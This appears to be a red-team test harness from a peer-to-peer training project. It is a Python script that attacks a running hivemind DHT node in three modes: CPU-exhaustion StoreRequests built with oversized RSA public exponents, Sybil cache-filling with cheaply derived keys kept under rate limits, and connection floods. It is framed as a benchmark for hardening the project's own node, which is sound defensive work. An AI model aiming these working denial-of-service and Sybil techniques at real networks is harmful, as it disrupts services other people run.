"""Issue 27's DHT and stream attacks as one real process against a running node (bench/redteam_network.py).

    python -m swarm_node.harness.dht_attacker --mode bomb --target MADDR --run-id RUN --seconds 90

    bomb       --inflight (8) concurrent StoreRequests of --request-mb (3.8) MB each, re-sent as soon
               as each is answered: membership records whose owner key has a 3072-bit modulus and a
               3069-bit public exponent (one signature check ~140x a normal one) and a junk
               signature. The bytes are built once; the attacker does no cryptography per request.
    cachefill  --records N validly signed membership records of N cheap identities, all under one
               membership key, sent straight to the target through both storage paths hivemind
               offers (in_cache = true, then false), --per-request records a request (40: under
               the target's 64 KiB request limit), at most --rate requests a second (8: under the
               target's per-peer rate, so it is not simply graylisted); then a `find` of that key, timed
    flood      --ids I libp2p hosts, each running --loops L concurrent loops of valid announcement
               exchanges with the target as fast as it answers, for --seconds (--streams fetch: fetch
               streams closed at once; dht: DHT pings)

Prints `ATTACKER up` once built and connected, waits for --go-file to exist (if given), prints
`ATTACKING <unix time>`; bomb and flood then attack only while the go file exists (a bench switches
the attack on and off, so that the victim's rounds with and without it share the machine's load) and
stop --seconds after the first go. At the end it
writes a JSON summary (--summary) at the end: requests sent and answered, errors, and for cachefill
how many records the target stored and served and how long its `find` took.
"""

from __future__ import annotations

import argparse
import asyncio
import itertools
import os
import sys
import time

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from hivemind.dht.crypto import RSASignatureValidator
from hivemind.dht.node import DHTNode
from hivemind.dht.routing import DHTID
from hivemind.dht.validation import DHTRecord, RecordValidatorBase
from hivemind.p2p import P2P, PeerID
from hivemind.proto import dht_pb2
from hivemind.utils.multiaddr import Multiaddr
from hivemind.utils.serializer import MSGPackSerializer

from swarm_node.fsutil import write_json_atomic
from swarm_node.net.hivemind_internals import dial, open_stream, wrap_rsa_key
from swarm_node.net.identity import load_or_create_identity, peer_id_of
from swarm_node.net.records import (ANNOUNCE_PROTOCOLS, FETCH_PROTOCOLS, make_member_record, member_key,
                                    send_announcement)

LOCAL = ["/ip4/127.0.0.1/tcp/0"]


def cheap_identities(n: int) -> list[rsa.RSAPrivateKey]:
    """n distinct 2048-bit RSA keys as a cheap attacker makes them: products of pairs of primes from
    ceil(sqrt(2n)) + 1 generated primes (1,035 keys in a few seconds instead of ~3 minutes)."""
    primes: list[int] = []
    while len(primes) * (len(primes) - 1) // 2 < n:
        numbers = rsa.generate_private_key(public_exponent=65537, key_size=2048).private_numbers()
        primes += [numbers.p, numbers.q]
    keys = []
    for p, q in itertools.islice(itertools.combinations(primes, 2), n):
        d = pow(65537, -1, (p - 1) * (q - 1))
        numbers = rsa.RSAPrivateNumbers(p, q, d, rsa.rsa_crt_dmp1(d, p), rsa.rsa_crt_dmq1(d, q), rsa.rsa_crt_iqmp(p, q),
                                        rsa.RSAPublicNumbers(65537, p * q))
        keys.append(numbers.private_key(unsafe_skip_rsa_key_validation=True))
    return keys


def sybil_signer(keys: list[rsa.RSAPrivateKey]) -> RecordValidatorBase:
    """A DHT record validator that signs each record with the identity named in its subkey."""
    signers = [RSASignatureValidator(wrap_rsa_key(k)) for k in keys]
    by_owner = {s.local_public_key: s for s in signers}

    class Signer(RecordValidatorBase):
        owners = list(by_owner)

        def validate(self, record) -> bool:
            return True

        def sign_value(self, record) -> bytes:  # the subkey is the serialized owner key
            return by_owner[MSGPackSerializer.loads(record.subkey)].sign_value(record)

        def strip_value(self, record) -> bytes:
            return signers[0].strip_value(record)

    return Signer()


def bomb_records(run_id: str, request_bytes: int) -> tuple[DHTID, list[bytes], list[bytes]]:
    """(key id, subkeys, values) of one StoreRequest of about `request_bytes`: each record owned by a
    distinct public key with the same ~3072-bit modulus and a 3069-bit odd exponent, junk signature."""
    key, _ = load_or_create_identity(None)
    n = key.public_key().public_numbers().n * key.private_numbers().p  # ~3072 bits
    key_id = DHTID.generate(source=member_key(run_id, 0))
    subkeys, values, size, i = [], [], 0, 0
    while size < request_bytes:
        public = rsa.RSAPublicNumbers(((1 << 3068) | 1) + 2 * i, n).public_key()
        ssh = public.public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH)
        record = make_member_record(peer_id_of(public), 1, ["/ip4/127.0.0.1/tcp/1"], time.time())
        subkeys.append(MSGPackSerializer.dumps(b"[owner:" + ssh + b"]"))
        values.append(MSGPackSerializer.dumps(record) + b"[signature:" + bytes(384) + b"]")
        size, i = size + len(subkeys[-1]) + len(values[-1]), i + 1
    return key_id, subkeys, values


def active(args) -> bool:
    return not args.go_file or os.path.exists(args.go_file)


async def ready(args) -> None:
    """Say we are up, wait for the go file (if any), say when the attack starts."""
    print("ATTACKER up", flush=True)
    while args.go_file and not os.path.exists(args.go_file):
        await asyncio.sleep(0.2)
    print(f"ATTACKING {time.time():.3f}", flush=True)


def split(target: str) -> tuple[PeerID, Multiaddr]:
    """A full multiaddr .../p2p/<id> as (peer id, address without it)."""
    addr, pid = target.rsplit("/p2p/", 1)
    return PeerID.from_base58(pid), Multiaddr(addr)


async def attacker_dht(target: str) -> tuple[P2P, DHTNode, PeerID]:
    p2p = await P2P.create(host_maddrs=LOCAL)
    pid, addr = split(target)
    await dial(p2p, pid, addr)
    return p2p, await DHTNode.create(p2p=p2p, initial_peers=[target]), pid


async def bomb(args, summary: dict) -> None:
    key_id, subkeys, values = bomb_records(args.run_id, int(args.request_mb * 1e6))
    summary.update(records_per_request=len(values), request_bytes=sum(map(len, subkeys)) + sum(map(len, values)))
    p2p, dht, pid = await attacker_dht(args.target)
    await ready(args)
    t_end = time.monotonic() + args.seconds

    async def one_lane() -> None:
        while time.monotonic() < t_end:
            if not active(args):
                await asyncio.sleep(0.05)
                continue
            summary["sent"] += 1
            t = time.monotonic()
            try:
                stored = await asyncio.wait_for(dht.protocol.call_store(
                    pid, [key_id] * len(values), values, time.time() + 300, subkeys=subkeys), 60)
                summary["answered"] += stored is not None
                summary["stored"] += sum(bool(s) for s in stored or [])
            except Exception:
                summary["errors"] += 1
                await asyncio.sleep(0.1)
            summary["answer_s"].append(round(time.monotonic() - t, 3))

    await asyncio.gather(*(one_lane() for _ in range(args.inflight)))
    await dht.shutdown()
    await p2p.shutdown()


async def cachefill(args, summary: dict) -> None:
    keys = cheap_identities(args.records)
    signer = sybil_signer(keys)
    key_id, expiration = DHTID.generate(source=member_key(args.run_id, 0)), time.time() + 600
    values = []
    for k, owner in zip(keys, signer.owners):
        value = MSGPackSerializer.dumps(make_member_record(peer_id_of(k.public_key()), 1, ["/ip4/127.0.0.1/tcp/1"],
                                                           time.time()))
        values.append(signer.sign_value(DHTRecord(key_id.to_bytes(), MSGPackSerializer.dumps(owner), value, expiration)))
    p2p, dht, pid = await attacker_dht(args.target)
    await ready(args)
    per_request = args.per_request
    t_next = time.monotonic()
    for in_cache in (True, False):
        stored = 0
        for i in range(0, len(values), per_request):
            await asyncio.sleep(max(0.0, t_next - time.monotonic()))
            t_next = time.monotonic() + 1 / args.rate
            summary["sent"] += 1
            try:
                ok = await asyncio.wait_for(dht.protocol.call_store(
                    pid, [key_id] * len(values[i:i + per_request]), values[i:i + per_request], expiration,
                    subkeys=list(signer.owners[i:i + per_request]), in_cache=in_cache), 120)
                summary["answered"] += ok is not None
                stored += sum(bool(s) for s in ok or [])
            except Exception:
                summary["errors"] += 1
        summary[f"stored_in_cache_{str(in_cache).lower()}"] = stored
    t = time.monotonic()
    found = await asyncio.wait_for(dht.protocol.call_find(pid, [key_id]), 30)
    summary["find_s"] = round(time.monotonic() - t, 3)
    entry = (found or {}).get(key_id, (None, None))[0]
    summary["served"] = 0 if entry is None else len(getattr(entry, "value", {}) or {})
    await dht.shutdown()
    await p2p.shutdown()


async def flood_loop(p2p: P2P, pid: PeerID, what: str, counts: dict, t_end: float, active=lambda: True,
                     max_calls: int = 10**9, announcement: dict | None = None) -> None:
    """One attempt after another at `pid`, as fast as it answers (or refuses), while `active()`, until `t_end`
    (monotonic) or max_calls in all: `what` = "announce", a valid exchange of `announcement`; "fetch", a fetch
    stream opened and closed at once; "dht", a DHT ping. Counts sent, answered, errors, and of those `p2pd`
    (refused in multistream-select: an id the target does not register)."""
    ping = dht_pb2.PingRequest().SerializeToString()

    async def attempt() -> None:
        if what == "dht":
            await p2p._client.control.call_unary_handler(pid, "DHTProtocol.rpc_ping", ping)
            return
        _, reader, writer = await open_stream(p2p, pid, ANNOUNCE_PROTOCOLS if what == "announce" else FETCH_PROTOCOLS)
        try:
            if what == "announce":
                await send_announcement(reader, writer, announcement)
        finally:
            writer.close()
    while time.monotonic() < t_end and counts["sent"] < max_calls:
        if not active():
            await asyncio.sleep(0.05)
            continue
        counts["sent"] += 1
        try:
            await asyncio.wait_for(attempt(), 2.0)
            counts["answered"] += 1
        except Exception as e:
            counts["errors"] += 1
            counts["p2pd"] = counts.get("p2pd", 0) + ("protocols not supported" in str(e))
            await asyncio.sleep(0.001)


async def hold_loop(p2p: P2P, pid: PeerID, protos: tuple[str, ...], counts: dict, t_end: float) -> None:
    """Red team 7's slot holder: open a stream of `protos` to `pid`, write nothing, wait until the server
    closes it, open the next; until `t_end` (monotonic). Counts opened, and of those ended, held (the
    server kept it open a while) and refused (closed or answered within 0.1 s)."""
    while time.monotonic() < t_end:
        try:
            _, reader, writer = await asyncio.wait_for(open_stream(p2p, pid, protos), 2.0)
        except Exception:
            await asyncio.sleep(0.05)
            continue
        counts["opened"] += 1
        t0 = time.monotonic()
        try:
            await asyncio.wait_for(reader.read(), max(0.0, t_end - t0))
        except Exception:
            pass
        finally:
            writer.close()
        counts["held" if time.monotonic() - t0 > 0.1 else "refused"] += 1
        await asyncio.sleep(0.01)


async def flood(args, summary: dict) -> None:
    hosts, pid, addr = [], *split(args.target)
    for _ in range(args.ids):  # on a loaded machine some dials time out: an attacker just uses the ids that got in
        hosts.append(await P2P.create(host_maddrs=LOCAL))
        for attempt in range(3):
            try:
                await dial(hosts[-1], pid, addr)
                break
            except Exception:
                await asyncio.sleep(1.0)
        else:
            await hosts.pop().shutdown()
    announcement = {"run_id": args.run_id, "seq": 1, "degree": 0, "model_id": "m", "tokenizer": "sha256:" + "1" * 64,
                    "protocol": 1, "round": 1, "policy_version": 1, "offers": [], "addrs": [], "peers": []}
    summary["ids"], summary["ids_connected"] = [str(p.peer_id) for p in hosts], len(hosts)
    await ready(args)
    t_end = time.monotonic() + args.seconds
    await asyncio.gather(*(flood_loop(p2p, pid, args.streams, summary, t_end, lambda: active(args),
                                      announcement=announcement) for p2p in hosts for _ in range(args.loops)))
    for p2p in hosts:
        await p2p.shutdown()


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--mode", choices=("bomb", "cachefill", "flood"), required=True)
    ap.add_argument("--target", required=True, help="the victim's full multiaddr (.../p2p/<id>)")
    ap.add_argument("--run-id", required=True)
    ap.add_argument("--seconds", type=float, default=90.0)
    ap.add_argument("--inflight", type=int, default=8, help="bomb: requests in flight at once")
    ap.add_argument("--request-mb", type=float, default=3.8, help="bomb: size of each request")
    ap.add_argument("--records", type=int, default=3000, help="cachefill: records (identities)")
    ap.add_argument("--per-request", type=int, default=40, help="cachefill: records per StoreRequest")
    ap.add_argument("--rate", type=float, default=8.0, help="cachefill: requests per second at most")
    ap.add_argument("--ids", type=int, default=1, help="flood: peer ids (one libp2p host each)")
    ap.add_argument("--loops", type=int, default=16, help="flood: concurrent loops per id")
    ap.add_argument("--streams", choices=("announce", "fetch", "dht"), default="announce",
                    help="flood: valid announcement exchanges, fetch streams closed at once, or DHT pings")
    ap.add_argument("--go-file", default=None, help="wait for this file to exist before attacking")
    ap.add_argument("--summary", default=None)
    args = ap.parse_args()
    summary = {"mode": args.mode, "sent": 0, "answered": 0, "errors": 0, "stored": 0, "answer_s": []}
    try:
        asyncio.run({"bomb": bomb, "cachefill": cachefill, "flood": flood}[args.mode](args, summary))
    finally:
        summary["answer_s"] = sorted(summary["answer_s"])
        if args.summary:
            write_json_atomic(args.summary, summary, durable=False)
    return 0


if __name__ == "__main__":
    sys.exit(main())
